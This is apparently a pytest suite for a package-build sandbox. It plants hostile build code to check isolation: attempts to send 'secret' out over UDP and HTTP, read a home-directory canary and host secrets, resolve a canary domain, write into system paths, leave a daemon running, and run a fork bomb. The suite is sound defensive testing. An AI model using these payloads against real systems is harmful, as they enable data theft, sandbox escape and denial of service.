"""Boundary: code of a package runs in a build only where a policy allows it, and reaches nothing from there."""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import sys
import textwrap
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from sandbox.models import Outcome
from tests.escape.bench import SLOWER
from tests.escape.build_bench import Builds, hostile_wheel, probing_sdist
from tests.integration.package_index import PackageIndex, package_index, sdist

pytestmark = pytest.mark.host_only

# What a build's code tries; `tcp`, `udp` and `canary` are filled in.
ATTACK = """
import os, socket, urllib.request
def attempt(what, function):
    try:
        found[what] = str(function() or "ok")
    except Exception as error:
        found[what] = type(error).__name__ + (f" {error.code}" if hasattr(error, "code") else "")
def send(kind, family=socket.AF_INET):
    with socket.socket(family, kind) as end:
        end.settimeout(3)
        end.connect(("127.0.0.1", %(udp)d))
        end.send(b"secret")
def write(path):
    with open(path, "w") as file:
        file.write("x")
attempt("direct", lambda: urllib.request.build_opener(urllib.request.ProxyHandler({})).open("http://127.0.0.1:%(tcp)d/direct", timeout=3).status)
attempt("proxy", lambda: urllib.request.urlopen("http://127.0.0.1:%(tcp)d/proxy", timeout=5).status)
attempt("udp", lambda: send(socket.SOCK_DGRAM))
attempt("home", lambda: open(%(canary)r).read())
"""
INSIDE_ONLY = """
attempt("raw", lambda: send(socket.SOCK_RAW))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW))
attempt("name", lambda: socket.getaddrinfo("secret.canary.example.com", 80))
attempt("resolver", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(("192.0.2.1", 53)))
for path in ("/usr/x", "/etc/x", "/opt/x", "/run/sandbox/x", "/run/sandbox/tools/uv", "/run/sandbox/lib/harness.py"):
    attempt(path, lambda: write(path))
attempt("wheels", lambda: os.listdir("/run/sandbox/wheels"))
found["host"] = sorted(set(os.environ) & {"HOST_SECRET", "XDG_RUNTIME_DIR", "LOGNAME", "DBUS_SESSION_BUS_ADDRESS"})
found["user"] = [os.getuid() != 0, open("/proc/self/status").read().count("CapEff:\\t0000000000000000")]
"""
OURS = [
    "/usr/x",
    "/etc/x",
    "/opt/x",
    "/run/sandbox/x",
    "/run/sandbox/tools/uv",
    "/run/sandbox/lib/harness.py",
]


@pytest.fixture(scope="module")
def other() -> Iterator[PackageIndex]:
    """Give a server on loopback that is not the index."""
    with package_index() as server:
        server.redirects = {}
        server.files = {"x": b""}
        yield server


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """Give a UDP socket on loopback, where names could be sent to."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
        end.bind(("127.0.0.1", 0))
        end.setblocking(False)
        yield end


@pytest.fixture
def canary() -> Iterator[Path]:
    path = Path.home() / f".canary-{os.getpid()}"
    path.write_text("precious")
    yield path
    path.unlink()


def port_of(server: PackageIndex) -> int:
    return int(server.url.split(":")[2].split("/")[0])


def attack(other: PackageIndex, listener: socket.socket, canary: Path) -> str:
    return ATTACK % {"tcp": port_of(other), "udp": listener.getsockname()[1], "canary": str(canary)}


def heard(listener: socket.socket) -> bool:
    try:
        return listener.recv(100) == b"secret"
    except BlockingIOError:
        return False


def test_code_of_a_source_archive_does_not_run_by_default(builds: Builds) -> None:
    builds.index.add(probing_sdist("byitself", "found['ran'] = True"))
    error = builds.refused("byitself")
    assert "byitself" in error.message
    assert builds.index.hits["/files/byitself-1.0.tar.gz"] == 0
    # The control: where a policy allows it, it runs.
    built = builds.build("byitself", policy=builds.policy(allow_sdists=True))
    assert builds.value_in(built, "import byitself\nresult = byitself.FOUND") == {"ran": True}


def test_a_lock_can_not_bring_a_source_archive_past_the_policy(builds: Builds) -> None:
    lock = builds.lock_of(probing_sdist("smuggled", "found['ran'] = True"))
    error = builds.refused("smuggled", lock=lock, codes={"policy_denied"})
    assert "allow_sdists" in error.message + error.hint


def test_code_of_a_build_reaches_nothing(
    builds: Builds, other: PackageIndex, listener: socket.socket, canary: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOST_SECRET", "precious")
    builds.index.add(probing_sdist("reaching", attack(other, listener, canary) + INSIDE_ONLY))
    before = other.hits.total()
    built = builds.build("reaching", policy=builds.policy(allow_sdists=True))
    found: dict[str, Any] = builds.value_in(built, "import reaching\nresult = reaching.FOUND")
    assert found["proxy"] == "HTTPError 403"
    assert found["direct"] == "URLError"
    assert found["home"] == "FileNotFoundError"
    assert {found[path] for path in OURS} <= {"OSError", "PermissionError", "FileNotFoundError", "IsADirectoryError"}
    assert {found[name] for name in ("raw", "packet", "netlink", "resolver")} <= {"OSError", "PermissionError"}
    assert found["name"] == "gaierror"
    assert found["wheels"] == "FileNotFoundError"
    assert found["host"] == []
    assert found["user"] == [True, 1]
    assert other.hits.total() == before
    assert not heard(listener)


def test_the_same_code_reaches_all_of_it_elsewhere(
    builds: Builds, other: PackageIndex, listener: socket.socket, canary: Path
) -> None:
    text = "found = {}\n" + attack(other, listener, canary) + "import json\nprint(json.dumps(found))"
    said = subprocess.run(
        [sys.executable, "-c", text], capture_output=True, timeout=30, check=True, stdin=subprocess.DEVNULL
    )
    found = json.loads(said.stdout)
    assert (found["udp"], found["home"]) == ("ok", "precious")
    assert found["direct"] == found["proxy"] == "HTTPError 404", "it was reached"
    assert heard(listener)
    # In a build, the list is what keeps it from the server.
    policy = builds.policy(allow_sdists=True, allow=["@index", f"127.0.0.1:{port_of(other)}"])
    builds.index.add(probing_sdist("allowed", attack(other, listener, canary)))
    built = builds.build("allowed", policy=policy)
    found = builds.value_in(built, "import allowed\nresult = allowed.FOUND")
    assert (found["proxy"], found["direct"]) == ("HTTPError 404", "URLError")


def running(mark: str) -> list[int]:
    found = []
    for entry in Path("/proc").glob("[0-9]*"):
        try:
            if mark in (entry / "cmdline").read_text(errors="replace").split("\0"):
                found.append(int(entry.name))
        except OSError:
            continue
    return found


DAEMON = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(3):
            os.dup2(os.open("/dev/null", os.O_RDWR), number)
        os.execv("/bin/sleep", ["sleep", "%s"])
    os._exit(0)
"""


def test_nothing_that_a_build_starts_outlives_it(builds: Builds) -> None:
    inside, outside = f"300.{os.getpid()}", f"301.{os.getpid()}"
    builds.index.add(probing_sdist("daemon", DAEMON % inside + "found['started'] = time.time()"))
    built = builds.build("daemon", policy=builds.policy(allow_sdists=True))
    assert builds.value_in(built, "import daemon\nresult = daemon.FOUND")["started"] > 0
    assert running(inside) == []
    # The control: on the host, the same lives on.
    subprocess.run([sys.executable, "-c", DAEMON % outside], check=True, timeout=10, stdin=subprocess.DEVNULL)
    deadline = time.monotonic() + 10
    while not (left := running(outside)) and time.monotonic() < deadline:
        time.sleep(0.02)
    assert left
    for pid in left:
        os.kill(pid, signal.SIGKILL)


def test_a_fork_bomb_in_a_build_ends_as_an_error(builds: Builds) -> None:
    bomb = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
    builds.index.add(sdist("forkbomb", "1.0", code=textwrap.indent(bomb, "    ").strip()))
    began = time.monotonic()
    error = builds.refused("forkbomb", policy=builds.policy(allow_sdists=True, timeout_s=4 * SLOWER))
    assert "forkbomb" in error.message
    assert time.monotonic() - began < 15 * SLOWER


def test_the_builds_of_two_archives_do_not_see_each_other(builds: Builds) -> None:
    look = """
import glob
found["seen"] = [path for path in glob.glob("/app/**", recursive=True) if "second" in path]
"""
    first, second = probing_sdist("first", look), sdist("second", "1.0", module="WHO = 'second'")
    policy = builds.policy(allow_sdists=True)
    lock = builds.lock_of(first, second)
    built = builds.build("first", "second", lock=lock, policy=policy)
    assert builds.value_in(built, "import first, second\nresult = [first.FOUND, second.WHO]") == [
        {"seen": []},
        "second",
    ]


def test_code_of_a_wheel_runs_in_a_program_that_imports_it_and_never_in_a_build(
    builds: Builds, other: PackageIndex
) -> None:
    text = f"""
import os, signal, urllib.request
try:
    urllib.request.urlopen("http://127.0.0.1:{port_of(other)}/imported", timeout=3)
except OSError:
    print("no network", flush=True)
os.kill(os.getpid(), signal.SIGKILL)  # wherever it is imported, the work there ends
"""
    builds.index.add(
        hostile_wheel("deadly", {"deadly/__init__.py": text, "deadly/__main__.py": text, "conftest.py": text})
    )
    before = other.hits.total()
    assert builds.run("deadly", code="result = 1").outcome is Outcome.SUCCEEDED
    imported = builds.run("deadly", code="import deadly\nresult = 1")
    assert (imported.outcome, imported.stdout) == (Outcome.KILLED, b"no network\n")
    assert other.hits.total() == before


def test_a_path_file_runs_code_where_a_policy_allows_it_and_nowhere_else(builds: Builds) -> None:
    files = {"started.pth": "import sys; sys.started = True\n", "started.py": ""}
    builds.index.add(hostile_wheel("started", files))
    assert "executes at every start" in builds.refused("started").message
    allowed = builds.policy(allow_pth=True)
    code = "import sys\nresult = getattr(sys, 'started', False)"
    assert builds.run("started", code=code, policy=allowed).result_json == b"true"
    assert "started" in builds.refused("started").message, "what another policy allowed is not taken over"
